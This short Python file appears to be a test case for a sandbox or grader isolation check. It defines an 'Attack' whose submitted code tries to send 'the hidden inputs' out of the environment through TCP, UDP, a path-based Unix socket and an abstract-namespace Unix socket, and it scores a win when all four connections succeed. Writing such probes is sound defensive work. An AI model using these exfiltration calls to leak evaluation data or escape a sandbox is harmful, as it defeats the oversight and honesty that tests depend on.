"""Send the inputs out: by TCP, by UDP, by a socket with a path and by one with a name."""

from attacking import Attack

PHONES = """
import socket

def call(family, kind, address):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(address)
            line.send(b"the hidden inputs")
    except OSError as error:
        print(error)

call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT))
call(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT))
call(socket.AF_UNIX, socket.SOCK_STREAM, ELSEWHERE + "/socket")
call(socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + ELSEWHERE + "/socket")
"""
ATTACK = Attack(answers={"pairwise-l2": PHONES}, wins=lambda run: run.knocked == 4)
